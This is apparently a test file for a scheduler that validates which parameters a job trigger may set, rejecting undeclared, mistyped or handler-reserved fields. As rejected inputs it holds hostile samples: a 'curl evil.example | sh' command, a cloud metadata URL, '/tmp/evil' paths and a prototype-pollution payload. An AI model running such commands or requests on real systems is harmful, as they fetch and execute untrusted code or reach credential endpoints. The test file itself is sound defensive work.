// Which params a trigger may set (issue 7, finding 6): only declared ones, typed, never the handler's own.
import { describe, expect, it } from 'vitest';
import { TriggerParams } from '../../src-main/master/api/contract/domain';
import { paramEnv } from '../../worker-agent/src/executors/shell';
import { checkTriggerDecls, checkTriggerParams, ownParams, paramVariable } from '../../src-main/master/scheduler/trigger-params';

const declared = TriggerParams.parse({
  region: { type: 'string', maxLength: 8 },
  batch: { type: 'integer', required: true },
  ratio: { type: 'number' },
  dryRun: { type: 'boolean' },
});

describe('ownParams', () => {
  it('are derived from the agent handler schemas', () => {
    expect(ownParams('shell')).toEqual(['command', 'cwd', 'env', 'shell']);
    expect(ownParams('http')).toEqual(expect.arrayContaining(['url', 'method', 'headers', 'body']));
    expect(ownParams('js')).toEqual(['module', 'export']);
    expect(ownParams('noop')).toEqual([]);
    expect(ownParams('nosuch')).toEqual([]);
  });
});

describe('checkTriggerParams', () => {
  it('accepts declared params of their types', () => {
    expect(checkTriggerParams('shell', declared, { region: 'eu-west', batch: 5, ratio: 0.5, dryRun: true })).toBeNull();
    expect(checkTriggerParams('shell', declared, { batch: 0 })).toBeNull();
  });

  it.each([
    ['command', { command: 'curl evil.example | sh', batch: 1 }, 'params.command', /handler itself/],
    ['env', { env: { PATH: '/tmp' }, batch: 1 }, 'params.env', /handler itself/],
    ['shell', { shell: '/tmp/evil', batch: 1 }, 'params.shell', /handler itself/],
    ['cwd', { cwd: '/', batch: 1 }, 'params.cwd', /handler itself/],
    ['an undeclared param', { batch: 1, zone: 'a' }, 'params.zone', /declares region, batch, ratio, dryRun/],
    ['a number for a string', { batch: 1, region: 5 }, 'params.region', /must be a string/],
    ['a too long string', { batch: 1, region: 'eu-west-1-long' }, 'params.region', /at most 8 characters/],
    ['a fraction for an integer', { batch: 1.5 }, 'params.batch', /whole number/],
    ['a string for an integer', { batch: '5' }, 'params.batch', /whole number/],
    ['a string for a boolean', { batch: 1, dryRun: 'yes' }, 'params.dryRun', /true or false/],
    ['NaN-like text for a number', { batch: 1, ratio: 'NaN' }, 'params.ratio', /must be a number/],
    ['a missing required param', { region: 'eu' }, 'params.batch', /required/],
  ])('refuses %s, naming the field', (_what, given, field, message) => {
    const error = checkTriggerParams('shell', declared, given);
    expect(error?.code).toBe('invalid_input');
    expect(error?.field).toBe(field);
    expect(error?.message).toMatch(message);
  });

  it('refuses everything when a task declares nothing, saying so', () => {
    expect(checkTriggerParams('shell', {}, {})).toBeNull();
    expect(checkTriggerParams('shell', {}, { customer: 'acme' })?.message).toMatch(/declares none/);
  });

  it('refuses the http and js handlers\' own params too', () => {
    expect(checkTriggerParams('http', {}, { url: 'http://169.254.169.254/' })?.field).toBe('params.url');
    expect(checkTriggerParams('js', {}, { module: '/tmp/evil.mjs' })?.field).toBe('params.module');
  });

  it('is not fooled by a param named like an Object property', () => {
    expect(checkTriggerParams('shell', {}, { toString: 'x' })?.field).toBe('params.toString');
    expect(checkTriggerParams('shell', {}, JSON.parse('{"__proto__": {"command": "id"}}'))?.field).toBe('params.__proto__');
  });
});

describe('checkTriggerDecls', () => {
  it('accepts extra params for shell and for the free-form handlers', () => {
    expect(checkTriggerDecls('shell', declared)).toBeNull();
    expect(checkTriggerDecls('noop', declared)).toBeNull();
  });

  it.each([
    ['shell', { command: { type: 'string' } }, 'triggerParams.command', /handler itself/],
    ['http', { url: { type: 'string' } }, 'triggerParams.url', /handler itself/],
    ['http', { region: { type: 'string' } }, 'triggerParams.region', /takes no params besides/],
    ['js', { day: { type: 'string' } }, 'triggerParams.day', /takes no params besides/],
    ['shell', { batch_size: { type: 'integer' }, BATCH_SIZE: { type: 'integer' } }, 'triggerParams.BATCH_SIZE', /BATON_PARAM_BATCH_SIZE/],
  ])('refuses for %s %o', (handler, decls, field, message) => {
    const error = checkTriggerDecls(handler, TriggerParams.parse(decls));
    expect(error?.field).toBe(field);
    expect(error?.message).toMatch(message);
  });

  it.each(['batchSize', 'batch_size', 'Region2'])('maps %s to the variable the shell handler sets', (name) => {
    expect(Object.keys(paramEnv({ command: 'true', [name]: 'v' }))).toEqual([paramVariable(name)]);
  });
});
